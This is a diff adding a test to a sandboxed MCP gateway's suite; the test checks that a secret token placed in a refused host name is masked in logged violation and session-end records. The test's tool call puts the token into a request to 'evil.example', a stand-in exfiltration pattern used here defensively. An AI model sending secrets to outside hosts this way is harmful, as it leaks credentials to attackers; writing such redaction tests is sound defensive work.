@@ -77,4 +77,32 @@ describe.skipIf(!BubblewrapRunner.available())("a sandboxed upstream MCP server"
     expect(textOf(environ).split("\0")).toContain(`UPSTREAM_TOKEN=${token}`);
     expect(cmdlinesHolding(token)).toEqual([]);
   });
+
+  it("masks its own configured env values in a refused host name (the record, the session's end), in any letter case", async () => {
+    const token = `Tok${randomBytes(12).toString("hex")}`;
+    const { warden } = await openWarden({ default: "allow", egress: { allow: ["localhost:1"] } });
+    const gateway = await gatewayFor(warden, {
+      servers: [
+        {
+          name: "fetcher",
+          command: [process.execPath, FETCHER],
+          env: { UPSTREAM_TOKEN: token },
+          cwd: null,
+          url: null,
+          headers: {},
+          sandbox: { readOnly: [root.replace(/\/$/, "")] },
+        },
+      ],
+    });
+    const client = await connectInMemory(gateway);
+    await client
+      .callTool({ name: "fetch_url", arguments: { url: `http://${token}.evil.example/` } })
+      .catch(() => undefined);
+    await vi.waitFor(async () => {
+      const [violation] = await records(warden, "sandbox.violation");
+      expect(violation?.data).toMatchObject({ host: "[env:UPSTREAM_TOKEN].evil.example" });
+      const [end] = await records(warden, "session.end");
+      expect(end?.data).toMatchObject({ reason: expect.stringContaining("[env:UPSTREAM_TOKEN]") });
+    });
+  });
 });
